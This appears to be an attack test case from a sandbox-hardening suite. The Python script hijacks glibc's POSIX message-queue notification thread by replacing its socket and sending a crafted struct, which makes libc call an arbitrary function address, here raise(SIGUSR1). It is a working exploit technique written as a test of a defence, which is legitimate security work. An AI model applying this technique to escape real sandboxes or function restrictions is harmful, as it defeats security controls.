# class: machine_code
# rule: native_code
# needs: module:posix_ipc
# success: libc's thread for message queues calls the address that it is sent
# proof: word
import os
import signal
import socket
import stat
import struct
import time

import posix_ipc
from attack import attempt, patience
from libc_symbols import address_in_libc


def is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


def wait_for(words, seconds):
    end = time.monotonic() + seconds
    while not words and time.monotonic() < end:
        time.sleep(0.01)
    return words


@attempt
def call():
    called = []
    signal.signal(signal.SIGUSR1, lambda *_: called.append("native"))
    there = {fd for fd in range(64) if is_socket(fd)}
    name = f"/function-shield-{os.getpid()}"
    queue = posix_ipc.MessageQueue(name, posix_ipc.O_CREX)
    posix_ipc.unlink_message_queue(name)
    notified = []
    queue.request_notification((notified.append, "asked"))
    time.sleep(0.1)  # the thread waits for a message by now
    (own,) = {fd for fd in range(64) if is_socket(fd)} - there
    ours, libcs = socket.socketpair()
    os.dup2(libcs.fileno(), own)
    queue.send(b"wakes the thread, which reads from the other socket then")
    wait_for(notified, 2)  # it may read from the other socket already
    # What libc's thread reads: function, argument, attributes, and 1 for "call it" at the end.
    function = address_in_libc("raise")
    ours.send(struct.pack("<QQQ", function, signal.SIGUSR1, 0).ljust(31, b"\0") + b"\1")
    return wait_for(called, patience(10))
